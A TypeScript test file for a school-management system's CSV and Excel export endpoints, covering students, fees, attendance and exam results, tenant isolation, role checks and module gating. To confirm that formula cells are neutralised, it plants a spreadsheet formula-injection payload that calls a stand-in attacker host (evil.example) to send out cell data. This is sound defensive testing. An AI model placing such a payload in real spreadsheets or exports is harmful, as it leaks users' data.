// The office's exports over HTTP: each list as CSV (parsed back with papaparse) and
// as Excel (read back with exceljs) holds the list's own figures; a BOM, the school's date in
// the file name, Urdu kept; formula starts neutralised in CSV and plain text in Excel; another
// school's rows refused; the role that cannot read the list cannot export it; the module gate.

import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { todayInPakistan } from '../../src/domains/school/transaction.js';
import {
  EXPORT_MAX_ROWS,
  EXPORT_MESSAGES,
  requireWithinBound,
  XLSX_TYPE,
} from '../../src/http/export.js';
import { renderDetail } from '../../src/http/i18n/messages.js';
import { createTestApp, type TestApp } from '../helpers/app.js';
import {
  caller,
  expectStatus,
  IQBAL,
  IQBAL_ADMIN,
  IQBAL_STUDENT,
  IQBAL_TEACHER,
  QUAID,
  QUAID_ADMIN,
} from '../learning/helpers.js';

const PARENT = 'parent@iqbal.edu.pk';
const URDU = 'عائشہ';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

let t: TestApp;
let call: ReturnType<typeof caller>;
type Klass = { id: number; name: string; sections: { id: number; name: string }[] };
let c5a: number;
let c3a: number;

type Table = { header: string[]; rows: Record<string, string>[] };

/** A CSV download parsed back: BOM, type and the school's date in the name checked. */
function csvOf(response: LightMyRequestResponse, stem: string): Table {
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(response.headers['content-disposition']).toMatch(
    new RegExp(`^attachment; filename="${stem}[^"]*-${todayInPakistan()}\\.csv"`),
  );
  expect(response.body.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(response.body.slice(1), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return { header: parsed.meta.fields ?? [], rows: parsed.data };
}

/** An Excel download read back: every cell as text, numbers as written (no formulas). */
async function xlsxOf(response: LightMyRequestResponse, stem: string): Promise<Table> {
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe(XLSX_TYPE);
  expect(response.headers['content-disposition']).toMatch(
    new RegExp(`^attachment; filename="${stem}[^"]*-${todayInPakistan()}\\.xlsx"`),
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const lines: string[][] = [];
  sheet.eachRow((row) => {
    const cells: string[] = [];
    for (let i = 1; i <= sheet.columnCount; i++) {
      const cell = row.getCell(i);
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value));
    }
    lines.push(cells);
  });
  const [header, ...rest] = lines;
  return {
    header: header!,
    rows: rest.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i] ?? '']))),
  };
}

/** Both files of one export; the same table either way. */
async function bothOf(url: string, stem: string, who = IQBAL_ADMIN): Promise<Table> {
  const join = url.includes('?') ? '&' : '?';
  const csv = csvOf(await call(who, 'GET', `${url}${join}format=csv`), stem);
  const xlsx = await xlsxOf(await call(who, 'GET', `${url}${join}format=xlsx`), stem);
  expect(xlsx.header).toEqual(csv.header);
  // The same cells, but for the CSV's apostrophe before a formula start.
  const unescaped = csv.rows.map((row) =>
    Object.fromEntries(
      Object.entries(row).map(([k, v]) => [k, v.replace(/^'(?=[=+\-@\t\r])/, '')]),
    ),
  );
  expect(xlsx.rows).toEqual(unescaped);
  // Without `format` the file is CSV.
  expect((await call(who, 'GET', url)).headers['content-type']).toBe('text/csv; charset=utf-8');
  return csv;
}

const sum = (rows: Record<string, string>[], column: string) =>
  rows.reduce((s, r) => s + Number(r[column]), 0);

beforeAll(async () => {
  t = await createTestApp();
  call = caller(t);
  const classes: Klass[] = (await call(IQBAL_ADMIN, 'GET', '/school/classes/')).json().items;
  const section = (c: string, s: string) =>
    classes.find((k) => k.name === c)!.sections.find((x) => x.name === s)!.id;
  c5a = section('Class 5', 'A');
  c3a = section('Class 3', 'A');
  // The other school has the modules on: its refusal is the tenant's, not the module gate's.
  await t.query((tx) =>
    tx.execute(sql`insert into tenant_modules (tenant_id, module_id, is_enabled, enabled_at)
                   select ${QUAID}, id, true, now() from modules
                   where slug in ('fee-management', 'attendance', 'gradebook')
                   on conflict do nothing`),
  );
  await t.query((tx) =>
    tx.execute(sql`update tenant_modules set is_enabled = true where tenant_id = ${QUAID}
                   and module_id in (select id from modules
                   where slug in ('fee-management', 'attendance', 'gradebook'))`),
  );
  // An Urdu name and a formula-looking name among the students.
  await t.query((tx) =>
    tx.execute(sql`update students set first_name = case when id = (select min(id) from students
                     where tenant_id = ${IQBAL}) then ${URDU} else first_name end,
                     last_name = case when id = (select max(id) from students
                     where tenant_id = ${IQBAL}) then ${FORMULA} else last_name end
                   where tenant_id = ${IQBAL}`),
  );
});
afterAll(() => t.close());

describe('the students list', () => {
  it('holds the list’s rows in its order, Urdu kept and formulas neutralised', async () => {
    const list = (await call(IQBAL_ADMIN, 'GET', '/students/?limit=500')).json();
    const csv = csvOf(await call(IQBAL_ADMIN, 'GET', '/students/export?format=csv'), 'students');
    expect(csv.rows.length).toBe(list.total);
    expect(csv.rows.map((r) => r['Admission No'])).toEqual(
      list.items.map((s: { admission_no: string }) => s.admission_no),
    );
    expect(csv.rows.some((r) => r['First Name'] === URDU)).toBe(true);
    expect(csv.rows.some((r) => r['Last Name'] === `'${FORMULA}`)).toBe(true);
    const xlsx = await xlsxOf(
      await call(IQBAL_ADMIN, 'GET', '/students/export?format=xlsx'),
      'students',
    );
    expect(xlsx.rows.length).toBe(list.total);
    expect(xlsx.rows.some((r) => r['First Name'] === URDU)).toBe(true);
    // In Excel the cell is text as typed: never a formula (checked per cell in xlsxOf).
    expect(xlsx.rows.some((r) => r['Last Name'] === FORMULA)).toBe(true);
  });

  it('keeps the list’s filter and the teacher’s own sections', async () => {
    const list = (await call(IQBAL_ADMIN, 'GET', `/students/?section_id=${c5a}&limit=500`)).json();
    const table = await bothOf(`/students/export?section_id=${c5a}`, 'students');
    expect(table.rows.map((r) => r['Roll No'])).toEqual(
      list.items.map((s: { placement: { roll_no: number } }) => String(s.placement.roll_no)),
    );
    const own = (await call(IQBAL_TEACHER, 'GET', '/students/?limit=500')).json();
    const teachers = await bothOf('/students/export', 'students', IQBAL_TEACHER);
    expect(teachers.rows.length).toBe(own.total);
    expectStatus(await call(IQBAL_STUDENT, 'GET', '/students/export'), 403);
    expectStatus(await call(PARENT, 'GET', '/students/export?format=xlsx'), 403);
  });
});

describe('fees', () => {
  it('the defaulters: each balance and the overdue total in whole rupees', async () => {
    const list = (await call(IQBAL_ADMIN, 'GET', '/fees/defaulters?limit=500')).json();
    expect(list.total).toBeGreaterThan(0);
    const table = await bothOf('/fees/defaulters/export', 'fee-defaulters');
    expect(table.rows.length).toBe(list.total);
    expect(sum(table.rows, 'Balance (PKR)')).toBe(list.total_overdue);
    for (const [i, d] of (
      list.items as { voucher_no: string; balance: number; due_date: string }[]
    ).entries()) {
      expect(table.rows[i]).toMatchObject({
        'Voucher No': d.voucher_no,
        'Balance (PKR)': String(d.balance),
        'Due Date': d.due_date,
      });
    }
    expectStatus(await call(IQBAL_TEACHER, 'GET', '/fees/defaulters/export'), 403);
    expectStatus(await call(PARENT, 'GET', '/fees/defaulters/export?format=xlsx'), 403);
  });

  it('the collection: one row per payment adding up to the report by month and method', async () => {
    const range = 'from=2000-01&to=2100-12';
    const report = (await call(IQBAL_ADMIN, 'GET', `/fees/reports/collection?${range}`)).json();
    expect(report.total).toBeGreaterThan(0);
    const table = await bothOf(`/fees/reports/collection/export?${range}`, 'fee-collection');
    expect(sum(table.rows, 'Amount (PKR)')).toBe(report.total);
    for (const m of report.by_month as { month: string; amount: number; payments: number }[]) {
      const own = table.rows.filter((r) => r['Paid On']!.startsWith(m.month));
      expect(own.length).toBe(m.payments);
      expect(sum(own, 'Amount (PKR)')).toBe(m.amount);
    }
    for (const m of report.by_method as { method: string; amount: number }[])
      expect(
        sum(
          table.rows.filter((r) => r.Method === m.method),
          'Amount (PKR)',
        ),
      ).toBe(m.amount);
    for (const r of table.rows) expect(r['Paid On']).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    // The report's own checks, and the office only.
    expectStatus(
      await call(IQBAL_ADMIN, 'GET', '/fees/reports/collection/export?from=2026-05&to=2026-01'),
      422,
      'The first month must not be after the last.',
    );
    expectStatus(await call(IQBAL_TEACHER, 'GET', `/fees/reports/collection/export?${range}`), 403);
  });

  it('a student’s ledger: each entry and the running balance', async () => {
    const [defaulter] = (await call(IQBAL_ADMIN, 'GET', '/fees/defaulters?limit=1')).json().items;
    const url = `/fees/students/${defaulter.student_id}/ledger`;
    const ledger = (await call(IQBAL_ADMIN, 'GET', url)).json();
    const table = await bothOf(`${url}/export`, 'fee-ledger');
    expect(table.rows.length).toBe(ledger.entries.length);
    for (const [i, e] of (
      ledger.entries as { date: string; debit: number; credit: number; balance: number }[]
    ).entries())
      expect(table.rows[i]).toMatchObject({
        Date: e.date,
        'Debit (PKR)': String(e.debit),
        'Credit (PKR)': String(e.credit),
        'Balance (PKR)': String(e.balance),
      });
    expect(sum(table.rows, 'Debit (PKR)')).toBe(ledger.charged);
    expect(table.rows.at(-1)!['Balance (PKR)']).toBe(String(ledger.balance));
    // Another school's admin does not see the student.
    expectStatus(await call(QUAID_ADMIN, 'GET', `${url}/export`), 404);
    // A teacher cannot read the ledger (not found to them): nor export it, with the same answer.
    expectStatus(await call(IQBAL_TEACHER, 'GET', url), 404);
    expectStatus(await call(IQBAL_TEACHER, 'GET', `${url}/export?format=xlsx`), 404);
  });
});

describe('attendance', () => {
  it('a section’s month: a letter per day and the totals of the register', async () => {
    const month = todayInPakistan(new Date(Date.now() - 7 * 86_400_000)).slice(0, 7);
    const url = `/attendance/sections/${c5a}/months/${month}`;
    const register = (await call(IQBAL_TEACHER, 'GET', url)).json();
    const table = await bothOf(`${url}/export`, 'attendance-class-5-a', IQBAL_TEACHER);
    expect(table.header.slice(3, 3 + register.days.length)).toEqual(
      register.days.map((d: { day: string }) => d.day.slice(8)),
    );
    expect(table.rows.length).toBe(register.rows.length);
    const letter: Record<string, string> = { present: 'P', absent: 'A', late: 'L', leave: 'Lv' };
    for (const [i, r] of (
      register.rows as {
        roll_no: number;
        marks: (string | null)[];
        totals: { present: number; absent: number; days: number; percentage: number | null };
      }[]
    ).entries()) {
      const row = table.rows[i]!;
      expect(row['Roll No']).toBe(String(r.roll_no));
      expect(register.days.map((d: { day: string }) => row[d.day.slice(8)])).toEqual(
        r.marks.map((m) => (m ? letter[m] : '')),
      );
      expect(row).toMatchObject({
        Present: String(r.totals.present),
        Absent: String(r.totals.absent),
        Days: String(r.totals.days),
        Percentage: r.totals.percentage === null ? '' : String(r.totals.percentage),
      });
    }
    expect(sum(table.rows, 'Days')).toBe(register.totals.days);
    // A teacher of another section, another school, a student.
    expectStatus(
      await call(IQBAL_TEACHER, 'GET', `/attendance/sections/${c3a}/months/${month}/export`),
      403,
    );
    expectStatus(await call(QUAID_ADMIN, 'GET', `${url}/export`), 404);
    expectStatus(await call(IQBAL_STUDENT, 'GET', `${url}/export`), 403);
  });
});

describe('exam results', () => {
  it('a section’s results: marks, totals, positions and grades of the list', async () => {
    const exams = (await call(IQBAL_ADMIN, 'GET', '/exams')).json().items as {
      id: number;
      name: string;
    }[];
    const mid = exams.find((e) => e.name === 'Mid-Term')!;
    const url = `/exams/${mid.id}/sections/${c5a}/results`;
    const results = (await call(IQBAL_ADMIN, 'GET', url)).json();
    expect(results.rows.length).toBeGreaterThan(0);
    const table = await bothOf(`${url}/export`, 'results-mid-term-class-5-a');
    expect(table.rows.length).toBe(results.rows.length);
    const outcome: Record<string, string> = {
      pass: 'Pass',
      fail: 'Fail',
      incomplete: 'Incomplete',
    };
    for (const [i, r] of (
      results.rows as {
        admission_no: string;
        total: number;
        position: number | null;
        grade: string;
        outcome: string;
        percentage: number;
        subjects: {
          subject_name: string;
          max_marks: number;
          marks: number | null;
          absent: boolean;
        }[];
      }[]
    ).entries()) {
      const row = table.rows[i]!;
      expect(row).toMatchObject({
        'Admission No': r.admission_no,
        Total: String(r.total),
        Position: r.position === null ? '' : String(r.position),
        Grade: r.grade,
        Result: outcome[r.outcome],
        Percentage: String(r.percentage),
      });
      for (const s of r.subjects)
        expect(row[`${s.subject_name} (${s.max_marks})`]).toBe(
          s.absent ? 'Absent' : s.marks === null ? '' : String(s.marks),
        );
    }
    expectStatus(await call(QUAID_ADMIN, 'GET', `${url}/export`), 404);
    expectStatus(await call(IQBAL_STUDENT, 'GET', `${url}/export?format=xlsx`), 403);
  });
});

describe('bounds and gates', () => {
  it('refuses more rows than the bound with a sentence', () => {
    expect(() => requireWithinBound(EXPORT_MAX_ROWS)).not.toThrow();
    expect(() => requireWithinBound(EXPORT_MAX_ROWS + 1)).toThrow(/larger than 10,000 rows/);
    expect(renderDetail(EXPORT_MESSAGES.tooManyRows, 'ur')).toMatch(/فلٹر محدود کریں/);
  });

  it('refuses an unknown format', async () => {
    expectStatus(await call(IQBAL_ADMIN, 'GET', '/students/export?format=pdf'), 422);
  });

  it('closes with the list’s module', async () => {
    const toggle = (on: boolean) =>
      t.query((tx) =>
        tx.execute(sql`update tenant_modules set is_enabled = ${on} where tenant_id = ${IQBAL}
                       and module_id = (select id from modules where slug = 'fee-management')`),
      );
    await toggle(false);
    try {
      // Twice: the second time the caller is known, and the export's read runs beside the gate.
      for (let i = 0; i < 2; i++) {
        const refused = await call(IQBAL_ADMIN, 'GET', '/fees/defaulters/export');
        expectStatus(refused, 403, /module is not enabled for your organisation/);
        expect(refused.headers['content-disposition']).toBeUndefined();
        expect(String(refused.headers['content-type'])).toMatch(/json/);
      }
    } finally {
      await toggle(true);
    }
  });
});
